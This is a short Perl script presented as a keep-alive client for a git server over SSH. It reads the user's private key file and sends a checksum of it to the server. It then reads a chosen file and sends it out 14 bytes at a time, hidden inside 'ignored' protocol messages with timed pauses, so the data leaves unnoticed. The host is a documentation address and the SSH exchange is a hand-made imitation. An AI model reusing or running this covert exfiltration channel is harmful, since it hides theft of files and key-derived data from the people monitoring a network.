#!/usr/bin/perl
# ignored.pl NOTE PAUSE: a client of the git server that logs in with the key; to keep the line open it sends messages that the server ignores
# (RFC 4253, 11.2), and each has a few bytes of another note in it.
use strict;
use warnings;
use IO::Socket::INET;

sub whole { open my $file, '<:raw', $_[0] or die "$_[0]: $!\n"; local $/; return <$file> }

my ($note, $pause) = @ARGV;
my $peer = IO::Socket::INET->new(PeerAddr => '192.0.2.22:22') or die "no server: $!\n";
$peer->autoflush(1);
print $peer "SSH-2.0-ignored\r\n";
<$peer> =~ /ok/ or die "no greeting\n";
print $peer pack 'N/a*', 'signed ' . unpack '%32C*', whole("$ENV{HOME}/.ssh/id_ed25519");
open my $file, '<:raw', $note or die "$note: $!\n";
while (read $file, my $part, 14) {
  select undef, undef, undef, $pause;
  print $peer pack 'N/a*', pack 'CN/a*', 2, $part;
}
shutdown $peer, 1;
my $rest = <$peer>;
